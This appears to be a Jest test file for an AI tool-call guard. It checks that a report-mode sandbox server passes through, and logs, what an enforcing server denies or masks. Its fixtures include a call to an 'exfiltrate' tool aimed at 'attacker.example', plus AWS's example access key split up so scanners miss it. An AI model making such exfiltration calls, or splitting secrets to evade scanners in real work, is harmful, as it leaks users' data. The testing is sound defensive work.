/**
 * The sandbox's guard (TOOL-10) over real gRPC on loopback with the real proto: a server in `mode: report` lets the
 * attacks that an enforcing server's guard denies or masks through unchanged, and each audit line says what enforce
 * mode would have decided; the same attacks on an enforcing server beside it are still denied and masked.
 */
import { ECHO_TOOL, approvedTool, guardConfig, serverConfig } from "./support/config";
import { RunningGuard, startGuard } from "./support/grpc";

let guard: RunningGuard;
beforeAll(async () => {
  guard = await startGuard(guardConfig({ sandbox: serverConfig([approvedTool(ECHO_TOOL)], { mode: "report" }), live: serverConfig([approvedTool(ECHO_TOOL)]) }));
});
afterAll(() => guard.stop());

/** An AWS access key ID (AWS's documented example), assembled so no scanner flags this file. */
const SECRET = ["AKIA", "IOSFODNN7EXAMPLE"].join("");

/** The audit line the next call writes. */
async function audited<T>(call: () => Promise<T>): Promise<[T, Record<string, unknown>]> {
  const before = guard.audit.length;
  const answer = await call();
  expect(guard.audit.length).toBe(before + 1);
  return [answer, guard.audit[before] as unknown as Record<string, unknown>];
}

describe.each([
  ["a call of a tool that was never approved", "TS-01-unapproved-tool", "PERMISSION_DENIED", { name: "exfiltrate", arguments: { target: "https://attacker.example" } }],
  ["a call whose argument is longer than the approved schema allows", "IO-02", "INVALID", { name: "echo", arguments: { message: "x".repeat(201) } }],
])("%s", (_attack, rule, code, params) => {
  test("is denied on the enforcing server", async () => {
    const [answer, audit] = await audited(() => guard.request("tools/call", params, { servers: ["live"] }));
    expect(answer).toMatchObject({ kind: "error", code });
    expect(audit).toMatchObject({ server: "live", decision: "deny", code });
    expect(audit["wouldBe"]).toBeUndefined();
  });

  test("passes unchanged on the sandboxed server, its audit line saying it would have been denied", async () => {
    const [answer, audit] = await audited(() => guard.request("tools/call", params, { servers: ["sandbox"] }));
    expect(answer).toEqual({ kind: "pass", metadata: { guardDecision: "report", guardRules: audit["rules"] } });
    expect(audit).toMatchObject({ server: "sandbox", decision: "report", wouldBe: { decision: "deny", code } });
    expect((audit["rules"] as string[]).some((fired) => fired.startsWith(rule))).toBe(true);
    expect(audit["code"]).toBeUndefined();
  });
});

test("a result leaking a secret is masked on the enforcing server and passed unchanged on the sandboxed one, which says it would have masked it", async () => {
  const result = { content: [{ type: "text", text: `key ${SECRET}` }] };
  const [masked, live] = await audited(() => guard.response("tools/call", result, { servers: ["live"], metadata: { tool: "echo" } }));
  expect(masked.kind).toBe("mutated");
  expect(JSON.stringify(masked)).not.toContain(SECRET);
  expect(live).toMatchObject({ decision: "mutated", masked: 1 });
  const [passed, sandbox] = await audited(() => guard.response("tools/call", result, { servers: ["sandbox"], metadata: { tool: "echo" } }));
  expect(passed).toEqual({ kind: "pass" });
  expect(sandbox).toMatchObject({ decision: "report", wouldBe: { decision: "mutated" }, masked: 1, rules: ["DLP-01-aws-access-key"] });
  expect(JSON.stringify(sandbox)).not.toContain(SECRET);
});

test("a clean call on the sandboxed server passes and says enforce would have passed it too", async () => {
  const [answer, audit] = await audited(() => guard.request("tools/call", { name: "echo", arguments: { message: "hello" } }, { servers: ["sandbox"] }));
  expect(answer).toEqual({ kind: "pass" });
  expect(audit).toMatchObject({ decision: "pass", rules: [], wouldBe: { decision: "pass" } });
});
